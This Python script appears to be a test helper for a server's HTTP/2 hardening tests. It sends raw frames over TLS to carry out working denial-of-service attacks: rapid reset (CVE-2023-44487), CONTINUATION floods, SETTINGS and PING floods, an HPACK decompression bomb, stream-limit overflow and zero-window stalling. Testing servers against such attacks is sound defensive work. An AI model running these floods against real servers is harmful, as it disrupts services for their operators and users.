#!/usr/bin/python3
"""HTTP/2 abuse against a TLS listener, one attack per run, for Http2AttackTests.

usage: h2attack.py ATTACK HOST PORT [COUNT]
Writes raw frames (hyperframe, hpack: Debian's python3-h2 brings both) after the client preface, reads whatever the
server sends back without acting on it, and prints one JSON line: frames sent, the GOAWAY error code if one came,
whether the server closed the connection, and the seconds taken. Bounded: COUNT frames and 30 s at most.
"""
import json
import socket
import ssl
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(host, port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=30)
    tls = context.wrap_socket(raw, server_hostname="a.test")
    if tls.selected_alpn_protocol() != "h2":
        raise SystemExit("the server did not agree to h2")
    return tls


class Reader(threading.Thread):
    """Reads frames until the connection ends; remembers a GOAWAY. Optionally stops reading (to stall the server)."""

    def __init__(self, tls, read=True):
        super().__init__(daemon=True)
        self.tls = tls
        self.read = read
        self.goaway = None
        self.closed = False
        self.data = 0

    def run(self):
        buffer = b""
        while self.read:
            try:
                chunk = self.tls.recv(65536)
            except (OSError, ssl.SSLError):
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            buffer += chunk
            while len(buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                if len(buffer) < 9 + length:
                    break
                body, buffer = buffer[9:9 + length], buffer[9 + length:]
                frame.parse_body(memoryview(body))
                if isinstance(frame, GoAwayFrame):
                    self.goaway = frame.error_code
                if isinstance(frame, DataFrame):
                    self.data += len(frame.data)


def headers_block(encoder, path="/", extra=()):
    return encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "a.test"), (":path", path)] + list(extra))


def send(tls, frames):
    tls.sendall(b"".join(f.serialize() for f in frames))


def main():
    attack, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 10000
    tls = connect(host, port)
    reader = Reader(tls, read=attack != "zero-window")
    tls.sendall(PREFACE)
    settings = SettingsFrame(0)
    if attack == "zero-window":
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
    send(tls, [settings])
    reader.start()
    encoder = Encoder()
    sent = 0
    started = time.monotonic()
    deadline = started + 30
    try:
        if attack == "rapid-reset":
            # CVE-2023-44487: open a stream and cancel it at once, over and over.
            stream = 1
            while sent < count and time.monotonic() < deadline and not reader.closed:
                batch = []
                for _ in range(100):
                    batch.append(HeadersFrame(stream, data=headers_block(encoder), flags=["END_HEADERS", "END_STREAM"]))
                    batch.append(RstStreamFrame(stream, error_code=8))
                    stream += 2
                send(tls, batch)
                sent += 200
        elif attack in ("continuation-flood", "continuation-flood-empty"):
            # A header block that never ends: CONTINUATION after CONTINUATION, with a header each or empty.
            send(tls, [HeadersFrame(1, data=headers_block(encoder))])
            sent = 1
            while sent < count and time.monotonic() < deadline and not reader.closed:
                batch = []
                for i in range(200):
                    data = b"" if attack.endswith("empty") else encoder.encode([("x-flood-%d" % (sent + i), "v" * 50)])
                    batch.append(ContinuationFrame(1, data=data))
                send(tls, batch)
                sent += 200
        elif attack == "settings-flood":
            while sent < count and time.monotonic() < deadline and not reader.closed:
                send(tls, [SettingsFrame(0) for _ in range(500)])
                sent += 500
        elif attack == "ping-flood":
            while sent < count and time.monotonic() < deadline and not reader.closed:
                send(tls, [PingFrame(0, opaque_data=b"12345678") for _ in range(500)])
                sent += 500
        elif attack == "hpack-bomb":
            # One large header put in the dynamic table, then referenced again and again: a small block decodes huge.
            big = ("x-bomb", "b" * 4000)
            first = encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "a.test"), (":path", "/"), big])
            again = encoder.encode([big])  # an index into the dynamic table now: a byte or two
            block = first + again * count
            send(tls, [HeadersFrame(1, data=block[:16384])])
            rest = block[16384:]
            sent = 1
            while rest and time.monotonic() < deadline and not reader.closed:
                send(tls, [ContinuationFrame(1, data=rest[:16384], flags=["END_HEADERS"] if len(rest) <= 16384 else [])])
                rest = rest[16384:]
                sent += 1
        elif attack == "stream-limit":
            # Open far more streams than SETTINGS_MAX_CONCURRENT_STREAMS allows, none of them finished.
            stream = 1
            batch = []
            for _ in range(count):
                batch.append(HeadersFrame(stream, data=headers_block(encoder, "/hold")))
                stream += 2
            send(tls, batch)
            sent = count
            time.sleep(1)
        elif attack == "zero-window":
            # Ask for responses with no room to receive them, and never read: the server must not hold them forever.
            batch = []
            for i in range(count):
                batch.append(HeadersFrame(1 + 2 * i, data=headers_block(encoder, "/"), flags=["END_HEADERS", "END_STREAM"]))
            send(tls, batch)
            sent = count
            time.sleep(2)
        else:
            raise SystemExit("unknown attack " + attack)
    except (OSError, ssl.SSLError):
        reader.closed = True
    # Give the server a moment to answer the abuse with a GOAWAY or a close.
    end = time.monotonic() + 3
    while time.monotonic() < end and not reader.closed and reader.read:
        time.sleep(0.05)
    print(json.dumps({"attack": attack, "sent": sent, "goaway": reader.goaway, "closed": reader.closed,
                      "seconds": round(time.monotonic() - started, 2)}))
    try:
        tls.close()
    except OSError:
        pass


if __name__ == "__main__":
    main()
